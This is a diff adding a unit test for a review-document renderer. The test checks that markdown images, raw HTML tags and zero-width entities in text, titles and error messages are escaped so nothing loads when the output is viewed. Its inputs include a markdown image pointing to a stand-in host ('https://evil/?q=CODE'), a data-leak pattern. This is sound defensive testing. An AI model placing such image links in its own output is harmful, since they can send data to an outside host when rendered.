@@ -67,6 +67,20 @@ ${text}
     );
   });
 
+  it('loads nothing where it is looked at, and has code to the letter', () => {
+    const message = 'Its words: ![x](http://e)';
+    const state = stateAfter(
+      { type: 'text', text: '![a](https://evil/?q=CODE) <img src=x> &#8203; `<b> ![c](d)`' },
+      finding('1', { title: '![t](u) &#8203;' }),
+      { type: 'error', kind: 'server', message, retryable: true, resumable: true },
+      { type: 'ended', outcome: 'failed' },
+    );
+    const text = reviewDocument(state, english);
+    assert.match(text, /^\\!\\\[a\]\(https:\/\/evil\/\?q=CODE\) \\<img src=x> \\&#8203; `<b> !\[c\]\(d\)`$/m);
+    assert.match(text, /^1\. \\!\\\[t\\\]\(u\) \\&#8203; \(/m);
+    assert.match(text, /^- Failed\. Its words: \\!\\\[x\]/m);
+  });
+
   it('says of each end what it is', () => {
     const error = { type: 'error', kind: 'network', message: 'Cut.', retryable: true, resumable: true } as const;
     const says = (...bodies: readonly ReviewEventBody[]) =>
